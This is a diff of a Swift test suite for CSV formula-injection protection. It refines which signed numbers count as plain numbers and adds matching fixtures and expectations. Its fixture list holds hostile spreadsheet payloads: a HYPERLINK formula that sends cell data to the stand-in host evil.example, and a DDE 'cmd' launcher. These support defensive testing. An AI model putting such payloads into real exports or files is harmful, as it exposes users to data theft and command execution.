@@ -9,7 +9,7 @@ import Testing
 struct CSVFormulaTests {
     static let formulas = [
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-        "\t=1+1", "\r=1+1", "-3", "=1,\"2\"\r\n3",
+        "\t=1+1", "\r=1+1", "-3", "-3.5e2", "+-1", "-.5", "=1,\"2\"\r\n3",
     ]
 
     /// A store whose every stored text field begins like a formula.
@@ -30,8 +30,11 @@ struct CSVFormulaTests {
         return temporary
     }
 
+    /// Written here apart from the exporter: a first byte of `= + - @`, tab or CR, in a cell that
+    /// is not a plain number such as `-3` or `-3.87`.
     static func startsFormula(_ cell: String) -> Bool {
-        cell.utf8.first.map { "=+-@\t\r".utf8.contains($0) } ?? false
+        let isNumber = cell.wholeMatch(of: /[-+]?[0-9]+(\.[0-9]+)?/) != nil
+        return !isNumber && (cell.utf8.first.map { "=+-@\t\r".utf8.contains($0) } ?? false)
     }
 
     @Test(
@@ -63,6 +66,9 @@ struct CSVFormulaTests {
         }
         #expect(guarded > 0, "\(arguments): nothing to neutralise")
         if arguments == ["export"] {
+            // A plain number stays a number; anything more after a sign is guarded.
+            let quotes = records.dropFirst().compactMap { $0.count > 11 ? $0[11] : nil }
+            #expect(quotes.contains("-3") && quotes.contains("'-3.5e2") && quotes.contains("'-.5"))
             let stored = try temporary.store.provenance.rows(.all)
             #expect(rawRecords.dropFirst().map { $0 } == stored.map(\.cells), "--raw-cells is the stored text")
         }
